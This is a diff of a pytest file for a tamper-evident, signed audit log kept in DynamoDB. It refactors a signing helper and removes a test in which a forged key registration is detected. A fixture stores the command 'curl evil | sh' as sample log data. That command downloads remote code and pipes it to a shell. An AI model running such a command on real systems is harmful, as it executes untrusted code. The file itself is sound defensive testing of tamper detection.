@@ -14,16 +14,14 @@ import pytest
 
 from bzzz import aws
 from bzzz.audit import (
-    KEYS_STREAM,
     AuditLog,
     Problem,
     Signer,
     entry_hash,
     publish_public_key,
-    verify_all,
     verify_stream,
 )
-from bzzz.audit.store import from_item, to_item
+from bzzz.audit.store import Entry, from_item, to_item
 from bzzz.secrets import SecretStore
 from tests.fixtures.aws import unique_stack_name
 
@@ -83,26 +81,16 @@ class Stack:
         body = {"stream": key, "seq": seq, "ts": 1, "author": signer.author,
                 "type": "command.run", "data": {"command": "curl evil | sh"},
                 "prev_hash": prev_hash}  # fmt: skip
-        digest = entry_hash(body)
-        entry = from_item(to_item_from(body, digest, signer.sign(digest)))
-        item = to_item(entry)
+        item = signed_item(body, signer)
         if seq_text:
             item["seq"] = {"N": seq_text}
         return item
 
 
-def to_item_from(body: dict, digest: str, signature: str) -> dict:
-    return {
-        "stream": {"S": body["stream"]},
-        "seq": {"N": str(body["seq"])},
-        "ts": {"N": str(body["ts"])},
-        "author": {"S": body["author"]},
-        "type": {"S": body["type"]},
-        "data": {"S": json.dumps(body["data"])},
-        "prev_hash": {"S": body["prev_hash"]},
-        "hash": {"S": digest},
-        "signature": {"S": signature},
-    }
+def signed_item(body: dict, signer: Signer | None = None, signature: str = "") -> dict:
+    """The item of `body` with its hash recomputed, signed by `signer` (or given `signature`)."""
+    digest = entry_hash(body)
+    return to_item(Entry(**body, hash=digest, signature=signature or signer.sign(digest)))
 
 
 @pytest.fixture(
@@ -210,7 +198,7 @@ def test_altered_prev_hash_re_hashed(stack):
     key = stack.stream()
     entry = from_item(stack.item(key, 5))
     body = {**entry.body(), "prev_hash": "f" * 64}
-    stack.put(to_item_from(body, entry_hash(body), entry.signature))
+    stack.put(signed_item(body, signature=entry.signature))
     assert_finding(stack.verify(key), 5, Problem.CHANGED, "re-linked")
 
 
@@ -227,27 +215,3 @@ def test_control_plane_key_registered_by_someone_else_does_not_displace_the_pinn
     impostor = Signer.generate("control-plane")
     AuditLog(stack.settings, impostor).append(key, "task.cancel", {"state": "cancelled"})
     assert_finding(stack.verify(key), 7, Problem.BAD_SIGNATURE, "'control-plane'")
-
-
-def test_rewritten_key_registration_breaks_the_keys_stream(aws_settings):
-    """A fresh stack: verify_all sees every stream, including the keys stream."""
-    runner, other = Signer.generate("agent-1"), Signer.generate("agent-2")
-    publish_public_key(aws_settings, runner)
-    publish_public_key(aws_settings, other)
-    AuditLog(aws_settings, runner).append("octo/keys#1", "task.claim", {"state": "claimed"})
-    assert all(report.ok for report in verify_all(aws_settings))
-
-    # Re-key agent-1 in place: the entry is self-consistent, but agent-2's no longer links to it.
-    db, table = aws.client("dynamodb", aws_settings), aws_settings.audit_table
-    mallory = Signer.generate("agent-1")
-    body = {**from_item(db.get_item(TableName=table, Key={
-        "stream": {"S": KEYS_STREAM}, "seq": {"N": "1"}}, ConsistentRead=True)["Item"]).body(),
-        "data": {"public_key": mallory.public_key}}  # fmt: skip
-    digest = entry_hash(body)
-    db.put_item(TableName=table, Item=to_item_from(body, digest, mallory.sign(digest)))
-
-    reports = {report.stream: report for report in verify_all(aws_settings)}
-    assert_finding(reports[KEYS_STREAM], 2, Problem.CHANGED, "re-linked")
-    # agent-1's registration is before the break, so its forged key is what the registry holds,
-    # and the genuine entry of agent-1 no longer verifies either.
-    assert_finding(reports["octo/keys#1"], 1, Problem.BAD_SIGNATURE)
